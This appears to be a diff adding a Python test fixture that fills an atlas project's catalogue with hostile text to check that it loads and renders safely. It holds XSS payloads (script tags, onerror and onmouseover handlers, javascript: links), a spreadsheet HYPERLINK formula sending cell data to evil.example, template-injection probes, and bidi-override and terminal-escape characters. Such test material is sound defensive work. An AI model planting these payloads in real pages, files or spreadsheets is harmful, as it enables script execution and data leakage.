@@ -1,0 +1,72 @@
+"""A whole atlas whose document, names and facts try to be more than text. It loads: nothing in it is an error."""
+
+from pathlib import Path
+
+from tests.factories import (
+    cable_route_table,
+    document_table,
+    fact_table,
+    local_text,
+    place_table,
+    place_tables,
+    project_table,
+    railway_table,
+    route_table,
+    speaker_table,
+    write_catalogue,
+)
+
+ROOT = Path(__file__).parent.parent
+
+OVERRIDE, ISOLATE, NO_WIDTH, BELL, ESCAPE = "\u202e", "\u2067", "\u200b", "\x07", "\x1b"
+SIGNS = (OVERRIDE, ISOLATE, NO_WIDTH, BELL, ESCAPE)
+TAG = "<script>window.pwned=1</script>"
+END = "</script><img src=x onerror=window.pwned=1>"
+ATTRIBUTE = "\"'><b onmouseover=window.pwned=1 style=position:fixed>x</b>"
+LINK = "[click](javascript:window.pwned=1) <a href=javascript:window.pwned=1>"
+FORMULA = '=HYPERLINK("http://evil.example/"&A1;"x")'
+TEXT_SIGNS = f"gəmi {OVERRIDE}drawkcab{ISOLATE} yük{NO_WIDTH}lü {BELL}{ESCAPE}[2J dayandı"
+COMMENT = "<!-- ]]> --> <?xml?> &lt;script&gt; &#60;svg onload=window.pwned=1&#62; {{7*7}} ${7*7}"
+QUOTES = {
+    "tag": TAG, "end": END, "attribute": ATTRIBUTE, "link": LINK, "formula": FORMULA, "signs": TEXT_SIGNS,
+    "comment": COMMENT,
+}  # fmt: skip
+"""By the fact's id, the words of the document that it quotes."""
+ABOUT = ["cable", "railway", "north-line", "baku"]
+TEXT = "".join(f"Səfir dedi: {quote}.\n" for quote in QUOTES.values())
+
+
+def write_hostile(root: Path) -> Path:
+    """A project's root below ``root``, on the real ground and with the real assets."""
+    facts = [
+        fact_table(id=name, quote=quote, statement=everywhere(ATTRIBUTE), about=ABOUT) for name, quote in QUOTES.items()
+    ]
+    header = document_table(title=END, titles=everywhere(TAG), publisher=everywhere(LINK), file="seeds/interview.txt")
+    places = [place_table(names=everywhere(f"Baku {TAG}"), source=LINK)]
+    write_catalogue(
+        root,
+        speakers=[speaker_table(names=everywhere(FORMULA), role=everywhere(TAG))],
+        documents=[(header, TEXT, facts)],
+        projects=[
+            project_table(
+                names=everywhere(FORMULA),
+                summary=everywhere(END),
+                aliases=[TAG, LINK],
+                status={"value": "construction", "basis": "stated", "as_of": "2025-12", "fact": "tag"},
+            ),
+            railway_table(names=everywhere(f"+{END}")),
+        ],
+        routes=[
+            route_table(names=everywhere(f"@{ATTRIBUTE}"), note=everywhere(TAG)),
+            cable_route_table(names=everywhere(f"-{TAG}")),
+        ],
+        places=sorted([*places, *(one for one in place_tables() if one["id"] != "baku")], key=lambda one: one["id"]),
+    )
+    (root / "data/basemap").symlink_to(ROOT / "data/basemap")
+    (root / "assets").symlink_to(ROOT / "assets")
+    return root
+
+
+def everywhere(text: str) -> dict[str, str]:
+    """The same in every language; Arabic must have its own letters."""
+    return local_text(text, text, f"{text} نص")
